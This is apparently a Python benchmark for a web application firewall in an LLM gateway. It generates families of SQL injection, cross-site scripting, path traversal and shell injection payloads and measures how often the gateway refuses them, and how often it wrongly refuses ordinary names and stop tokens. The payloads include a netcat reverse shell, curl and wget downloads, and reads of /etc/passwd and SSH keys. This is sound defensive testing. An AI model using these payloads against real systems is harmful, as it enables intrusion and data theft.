"""What the structure checks refuse: attack payloads by family in names, and the names of real life: `python -m benchmarks.waf_structure`.

The payloads are written here, after the families that public lists have; none was used to write a rule. The three kinds
of place differ: a model or tool name is proved by a narrow grammar, a user label by a wide one, a stop word by rules alone.
"""

from __future__ import annotations

import itertools
import json
import random
from pathlib import Path

from benchmarks.waf_prompts import exchange, shipped, upper
from gateway.core.exchange import Kind, Passage
from gateway.core.verdict import Refuse

RESULTS = Path(__file__).parent / "results" / "waf_structure.json"
PLACES = {"name": "model", "tool": "tools[0].function.name", "label": "user", "stop": "stop[0]"}


def sql() -> set[str]:
    logic = {
        f"{a}{q}{c} {op} {q}{x}{q}{cmp}{q}{x}{e}"
        for a, q, c, op, x, cmp, e in itertools.product(
            ("1", "admin", "-1", ""),
            ("'", '"', ""),
            ("", ")", "))"),
            ("or", "AND", "||", "oR"),
            ("1", "a", "2"),
            ("=", " like "),
            ("", "--", "#", "' -- -"),
        )
    }
    unions = {
        f"{a}{q} union{s}{al}select {n}{e}"
        for a, q, s, al, n, e in itertools.product(
            ("1", "x"),
            ("'", '"', ")", ""),
            (" ", "/**/", "%20", "+"),
            ("", "all "),
            ("null,null", "1,2,3", "user,password from users", "@@version"),
            ("", "--", "#"),
        )
    }
    stacked = {
        f"{a}{q};{s}{e}"
        for a, q, s, e in itertools.product(
            ("1", "x"),
            ("'", ""),
            (
                "drop table users",
                "insert into t values(1)",
                " exec xp_cmdshell('dir')",
                "waitfor delay '0:0:5'",
                "shutdown",
            ),
            ("", "--"),
        )
    }
    timed = {
        f"{a} {op} {f}"
        for a, op, f in itertools.product(
            ("1", "1'", '1"', "1)"),
            ("and", "or", "||"),
            (
                "sleep(5)",
                "pg_sleep(3)",
                "benchmark(5000000,md5(1))",
                "(select 1 from (select sleep(3))x)",
                "extractvalue(1,concat(0x7e,version()))",
                "ascii(substr(user(),1,1))>64",
                "exists(select * from users)",
                "if(1=1,sleep(2),0)",
            ),
        )
    }
    return (
        logic
        | unions
        | stacked
        | timed
        | {
            "1' order by 9--",
            "1 group by x having 1=1--",
            "' having 1=1#",
            "%27%20or%201%3d1",
            "admin'--",
            "admin' #",
            "1' procedure analyse()--",
            "' into outfile '/tmp/x'--",
            "1; select load_file('/etc/passwd')",
        }
    )


def script() -> set[str]:
    handlers = {
        f"<{t} {a}{h}={c}>"
        for t, a, h, c in itertools.product(
            ("img src=x", "svg", "body", "input autofocus", "details open", "video", "a href=#", "iframe"),
            ("", "x=1 ", "\t"),
            ("onerror", "onload", "OnFocus", "onmouseover", "ontoggle"),
            ("alert(1)", "'alert`1`'", "javascript:eval(name)", "&#97;lert(1)"),
        )
    }
    tags = {
        f"{o}<{t}>{c}</{t}>"
        for o, t, c in itertools.product(
            ("", '">', "'>", "--></", "]]>"),
            ("script", "SCRIPT", "scr\x00ipt", "script src=//x.y", "svg/onload=alert(1)"),
            ("alert(1)", "document.cookie", "fetch('//x')", "eval(atob('YQ=='))"),
        )
    }
    urls = {
        f"{s}{c}"
        for s, c in itertools.product(
            (
                "javascript:",
                "JaVaScRiPt:",
                "java\tscript:",
                "vbscript:",
                "data:text/html,<script>",
                "data:text/html;base64,",
            ),
            ("alert(1)", "confirm(document.domain)", "PHN2Zz4="),
        )
    }
    return (
        handlers
        | tags
        | urls
        | {
            '" onfocus=alert(1) autofocus="',
            "'-alert(1)-'",
            "';alert(1)//",
            "{{constructor.constructor('alert(1)')()}}",
            "<style>@import'//x'</style>",
            "<math><mi xlink:href=javascript:alert(1)>",
            "%3Cscript%3Ealert(1)%3C/script%3E",
        }
    )


def traversal() -> set[str]:
    ups = (
        "../",
        "..\\",
        "..%2f",
        "%2e%2e/",
        "%2e%2e%2f",
        "..%252f",
        "..%c0%af",
        "....//",
        "..;/",
        ".%2e/",
        "%252e%252e%252f",
        "..%5c",
        "..\\/",
    )
    files = (
        "etc/passwd",
        "etc/shadow",
        "windows/win.ini",
        "boot.ini",
        "proc/self/environ",
        "WEB-INF/web.xml",
        "var/log/apache2/access.log",
        "home/app/.ssh/id_rsa",
        ".env",
        "app/config.php",
    )
    climbed = {
        f"{pre}{up * n}{file}{end}"
        for pre, up, n, file, end in itertools.product(
            ("", "/", "images/", "a/"), ups, (1, 3, 7), files, ("", "%00.png")
        )
    }
    plain = {
        "/etc/passwd",
        "/etc/hosts",
        "C:\\windows\\win.ini",
        "c:/boot.ini",
        "file:///etc/passwd",
        "\\\\host\\share\\x",
        "/proc/self/cmdline",
        "/var/www/html/wp-config.php",
        "php://filter/convert.base64-encode/resource=index",
        "~/.ssh/id_rsa",
        "~root/x",
        "/root/.bash_history",
        "..",
        "../",
        "../..",
        "WEB-INF/web.xml",
        "/WEB-INF/classes",
        "..//..//etc//passwd",
        "/..",
        "./../x",
    }
    return climbed | plain


def command() -> set[str]:
    commands = (
        "id",
        "whoami",
        "cat /etc/passwd",
        "ls -la",
        "uname -a",
        "ping -c 3 10.0.0.1",
        "curl http://x.y/s.sh",
        "wget x.y",
        "nc -e /bin/sh 10.0.0.1 44",
        "sleep 5",
        "dir",
        "type c:\\boot.ini",
        "netstat -an",
        "ifconfig",
        "powershell -c ls",
        "bash -i",
        "python3 -c 'x'",
        "rm -rf /tmp/x",
        "echo hi",
        "env",
        "nslookup x.y",
    )
    joined = {
        f"{a}{j}{c}{e}"
        for a, j, c, e in itertools.product(
            ("", "x", "127.0.0.1", "a.txt"),
            (";", "; ", "|", " | ", "&&", "& ", "||", "\n", "%0a", "`", "$("),
            commands,
            ("", " #", ";"),
        )
    }
    closed = {text + {"`": "`", "(": ")"}.get(next((one for one in text if one in "`("), ""), "") for text in joined}
    return closed | {
        "cat${IFS}/etc/passwd",
        "{cat,/etc/passwd}",
        "() { :;}; /bin/sh -c id",
        '<!--#exec cmd="id"-->',
        "a;{ls,-l}",
        "$(sleep 5)",
        "`sleep 5`",
        "|id",
        "& ping -n 3 x.y &",
        "system('id')",
        "cmd.exe /c dir",
        "/bin/cat /etc/passwd",
        ";/usr/bin/id;",
        "a\nid\n",
        "%60id%60",
        "$IFS$9id",
        "<(id)",
        "ping 127.0.0.1",
        "cat /etc/passwd",
        "curl http://x.y",
    }


def usual() -> dict[str, set[str]]:
    """Values as clients send them, by kind of place."""
    chance = random.Random("usual")
    first, last = (
        ("Ana", "José", "李", "Zoë", "Björn", "Fatima", "Nguyễn", "Олег", "Mary-Jane", "D'Arcy", "张", "Søren"),
        (
            "Smith",
            "O'Neill",
            "García López",
            "伟",
            "Müller",
            "van der Berg",
            "Иванов",
            "MacDonald",
            "Al-Sayed",
            "小明",
            "Nakamura",
        ),
    )
    hexed = lambda many: "".join(chance.choice("0123456789abcdef") for _ in range(many))  # noqa: E731
    people = {f"{a} {b}" for a, b in itertools.product(first, last)} | {
        f"{b}, {a}" for a, b in itertools.product(first, last)
    }
    ids = (
        {f"user-{hexed(8)}" for _ in range(400)}
        | {f"{hexed(8)}-{hexed(4)}-4{hexed(3)}-a{hexed(3)}-{hexed(12)}" for _ in range(400)}
        | {
            f"{chance.choice(('ana', 'wei.li', 'ops+bot', 'j_doe'))}{n}@mail.example.{tld}"
            for n in range(200)
            for tld in ("com", "cn")
        }
        | {hexed(64) for _ in range(200)}
        | {f"tenant:{n}/user:{n * 7}" for n in range(150)}
        | {f"acct_{hexed(24)}" for _ in range(200)}
    )
    models = {
        f"{org}/{name}{size}{tune}"
        for org, name, size, tune in itertools.product(
            ("deepseek-ai", "Qwen", "meta-llama", "mistralai", "THUDM", "google", "acme.internal"),
            ("DeepSeek-V3.1", "Qwen3", "Llama-3.3", "glm-4", "gemma-2"),
            ("", "-7B", "-70B", "-0.6b"),
            ("", "-Instruct", "-AWQ", ":main", "@v1.2"),
        )
    } | {
        "gpt-4o",
        "tgi",
        "default",
        "smollm2",
        "o3-mini",
        "text-embedding-3-large",
        "claude-3.5",
        "ft:gpt-4o:acme::9xYz",
        "/data/models/llama",
    }
    tools = (
        {
            f"{verb}_{noun}{n}"
            for verb, noun, n in itertools.product(
                ("get", "search", "create", "update", "delete", "list", "run", "send"),
                ("weather", "user", "orders", "sql_query", "file", "email", "web-page", "shell_command"),
                ("", "_v2", "3"),
            )
        }
        | {f"call_{hexed(24)}" for _ in range(300)}
        | {f"chatcmpl-tool-{hexed(32)}" for _ in range(100)}
    )
    stops = {
        "\n",
        "\n\n",
        "\n\nHuman:",
        "\nUser:",
        "User:",
        "Assistant:",
        "###",
        "### Instruction:",
        "</s>",
        "<s>",
        "<|im_end|>",
        "<|eot_id|>",
        "<|endoftext|>",
        "<｜end▁of▁sentence｜>",
        "[INST]",
        "```",
        "\n```",
        "~~~",
        ";",
        "';",
        '";',
        ");",
        "}",
        "\n}",
        "]",
        "\ndef ",
        "\nclass ",
        "\nif __name__",
        "#",
        "//",
        "--",
        "/*",
        "*/",
        "SELECT",
        "END",
        "STOP",
        "Observation:",
        "\nThought:",
        "Final Answer:",
        "。",
        "用户：",
        "\n问：",
        "</tool_call>",
        "</answer>",
        "<end>",
        "---",
        "===",
        "\t",
        "Q:",
        "A:",
        "0.",
        "...",
        "$$",
        "\\n",
        "EOF",
        "</think>",
        "<br>",
        "&",
        "|",
        "%",
        "\r\n\r\n",
        "end\n",
        "return",
        "\nprint(",
        '"""',
        "'''",
        "<|",
        "|>",
        "{{",
        "}}",
        "</script>",
        "\nfunction",
        "\npublic ",
        "import ",
        "\n#include",
        "\nCREATE",
        "GO\n",
    }
    return {
        "label": people | ids,
        "name": models,
        "tool": tools,
        "stop": stops
        | {
            f"{a}{b}"
            for a, b in itertools.product(
                ("\n", "\n\n", "<", "## ", "**"),
                ("User", "Human", "AI", "Bot", "Customer", "Agent", "Step", "Note", "END", "Question", "Answer"),
            )
        },
    }


def main() -> None:
    stage = shipped()

    def refused(text: str, place: str) -> bool:
        return isinstance(stage.judge(exchange(Passage(PLACES[place], "parameter", text, Kind.IDENTIFIER))), Refuse)

    results: dict[str, object] = {"how": "python -m benchmarks.waf_structure", "attacks": {}, "usual": {}}
    for family, payloads in {"sql": sql(), "script": script(), "traversal": traversal(), "command": command()}.items():
        shares = {}
        for place in PLACES:
            missed = [text for text in sorted(payloads) if not refused(text, place)]
            shares[place] = round(1 - len(missed) / len(payloads), 5)
            print(
                f"{family:10} in {place:6} {len(payloads):6} refused {shares[place]:.2%}",
                [text[:50] for text in missed[:8]],
            )
        results["attacks"][family] = {"payloads": len(payloads), "refused": shares}  # type: ignore[index]
    for place, values in usual().items():
        wrong = [text for text in sorted(values) if refused(text, place)]
        bound = upper(len(wrong), len(values))
        print(f"usual      in {place:6} {len(values):6} refused {len(wrong)} (<= {bound:.2%})", wrong[:12])
        results["usual"][place] = {"values": len(values), "refused": len(wrong), "refused_at_most_95": round(bound, 5)}  # type: ignore[index]
    RESULTS.write_text(json.dumps(results, indent=1) + "\n")


if __name__ == "__main__":
    main()
